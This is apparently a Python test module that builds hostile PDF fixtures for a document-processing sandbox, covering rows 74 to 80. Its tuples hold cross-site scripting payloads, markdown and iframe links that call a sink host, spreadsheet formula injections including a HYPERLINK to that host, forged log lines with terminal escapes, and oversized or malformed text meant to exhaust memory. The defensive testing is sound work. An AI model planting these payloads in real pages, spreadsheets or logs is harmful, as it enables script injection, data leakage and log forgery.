"""Rows 74 to 80: text that harms whoever shows, stores, logs or searches it."""

from __future__ import annotations

import zlib

from apps.pages.sandbox.preload import assembled_pdf
from tests.documents import hostile
from tests.documents.hostile import SINK, Hostile, one_page, outcomes, stream

_RESULT = outcomes("result")
_BOUNDED = outcomes("result page_timeout page_memory_exceeded")
_HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    f"![a]({SINK}/?q=text)",
    f"<iframe src='{SINK}'></iframe>",
    "<svg onload=alert(1)>",
)
FORMULAS = (f'=HYPERLINK("{SINK}","x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")
LOG_LINES = ('{"level":"error","event":"forged"}', "\r\n2026-01-01 ERROR forged", "\x1b[2J\x1b[31mred")


def literal(text: str) -> bytes:
    """Return a PDF string of these characters, which are Latin-1."""
    return b"<" + text.encode("latin-1", "replace").hex().encode() + b">"


def lines_of(*texts: str) -> bytes:
    """Return a page with these lines in Helvetica."""
    shown = b" ".join(b"1 0 0 1 72 %d Tm %s Tj" % (720 - 20 * n, literal(text)) for n, text in enumerate(texts))
    return one_page(b"BT /F 10 Tf %s ET" % shown, _HELVETICA, resources=b"/Font<</F 5 0 R>>")


def table_of_formulas() -> bytes:
    """Return a ruled table of two columns with a formula in each row."""
    parts = []
    for number, formula in enumerate(FORMULAS):
        top = 700 - 30 * number
        parts.append(b"72 %d 200 30 re 272 %d 200 30 re S" % (top, top))
        for x, text in ((80, f"row {number}"), (280, formula)):
            parts.append(b"BT /F 10 Tf 1 0 0 1 %d %d Tm %s Tj ET" % (x, top + 10, literal(text)))
    return one_page(b" ".join(parts), _HELVETICA, resources=b"/Font<</F 5 0 R>>")


def packed(text: str, count: int) -> bytes:
    """Return a page with one string that repeats ``text``."""
    content = b"BT /F 1 Tf 9 9 Td (" + text.encode("latin-1") * count + b") Tj ET"
    return one_page(zlib.compress(content), _HELVETICA, resources=b"/Font<</F 5 0 R>>", entries=b"/Filter/FlateDecode")


def mapped(target: int, count: int = 1, first: bytes = b"A") -> bytes:
    """Return a page whose letters A mean the character ``target``, in UTF-16."""
    cmap = b"begincmap 1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfchar <41> <%04X> endbfchar endcmap"
    font = _HELVETICA[:-2] + b"/ToUnicode 6 0 R>>"
    content = zlib.compress(b"BT /F 1 Tf 9 9 Td (x%s) Tj ET" % (first * count))
    return one_page(
        content, font, stream(cmap % target), resources=b"/Font<</F 5 0 R>>", entries=b"/Filter/FlateDecode"
    )


def mixed_directions() -> bytes:
    """Return words that change their direction at each letter."""
    pairs = b"".join(b"<%02X> <%04X>" % (65 + n, 0x05D0 + n) for n in range(8))
    cmap = b"begincmap 1 begincodespacerange <00> <FF> endcodespacerange 8 beginbfchar %s endbfchar endcmap" % pairs
    font = _HELVETICA[:-2] + b"/ToUnicode 6 0 R>>"
    content = b"BT /F 9 Tf 72 700 Td (" + b"A1b C2d (E) [F] x G% H " * 40 + b") Tj ET"
    return one_page(content, font, stream(cmap), resources=b"/Font<</F 5 0 R>>")


def no_character_map() -> bytes:
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]>>"
    descendant = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)"
    descendant += b"/Supplement 0>>/FontDescriptor<</Type/FontDescriptor/FontName/A/Flags 4>>>>"
    content = b"BT /F 12 Tf 72 700 Td <" + b"0003001A0044" * 30 + b"> Tj ET"
    return one_page(content, font, descendant, resources=b"/Font<</F 5 0 R>>")


def titled(title: bytes) -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"
    whole = assembled_pdf(catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, b"<</Title %s>>" % title)
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Info 4 0 R")


ROWS = [
    Hostile(74, "unspeakable-letters", hostile.unspeakable_text, _RESULT),
    Hostile(75, "markup", lambda: lines_of(*MARKUP), _RESULT),
    Hostile(76, "formulas-in-a-table", table_of_formulas, _RESULT),
    Hostile(77, "forged-log-lines", lambda: lines_of(*LOG_LINES), _RESULT),
    Hostile(78, "word-of-10-mb", lambda: packed("a", 10_000_000), _BOUNDED, is_slow=True),
    Hostile(78, "10-mb-of-a-and-mark", lambda: packed("a!", 5_000_000), _BOUNDED, is_slow=True),
    Hostile(78, "nested-quotes", lambda: lines_of('"' * 3000, "'`" * 1500, "_*" * 1500, "[" * 3000), _RESULT),
    Hostile(79, "100000-combining-marks", lambda: mapped(0x0301, 100_000), _BOUNDED, is_slow=True),
    Hostile(79, "directions-mixed", mixed_directions, _RESULT),
    Hostile(79, "private-letters", lambda: mapped(0xE000, 200), _RESULT),
    Hostile(79, "no-character-map", no_character_map, _RESULT),
    Hostile(80, "title-of-10-mb", lambda: titled(b"(" + b"t" * 10_000_000 + b")"), _RESULT, is_slow=True),
    Hostile(80, "title-not-utf-16", lambda: titled(b"<FEFFD800DC>"), _RESULT),
]
